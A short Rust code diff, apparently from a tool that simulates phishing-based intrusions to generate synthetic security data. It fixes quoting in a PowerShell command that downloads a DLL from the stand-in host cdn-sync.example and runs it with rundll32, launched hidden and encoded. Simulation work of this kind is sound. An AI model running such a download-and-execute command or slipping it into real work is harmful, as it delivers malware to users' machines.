@@ -157,7 +157,7 @@ impl<'a> Story<'a> {
         let here = |time| (time, &user.computer, &actor);
         let word = week.start(&mut self.rng, here(FOOTHOLD), &outlook, &WINWORD, document);
         let script = "$c=New-Object Net.WebClient;$d=\"$env:APPDATA\\CdnSync\";mkdir $d -Force|Out-Null;\
-                      $c.DownloadFile('https://cdn-sync.example/pkg/7','$d\\cdnsync.dll');rundll32 \"$d\\cdnsync.dll\",Start";
+                      $c.DownloadFile('https://cdn-sync.example/pkg/7',\"$d\\cdnsync.dll\");rundll32 \"$d\\cdnsync.dll\",Start";
         let command = format!(
             "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {}",
             encoded(script)
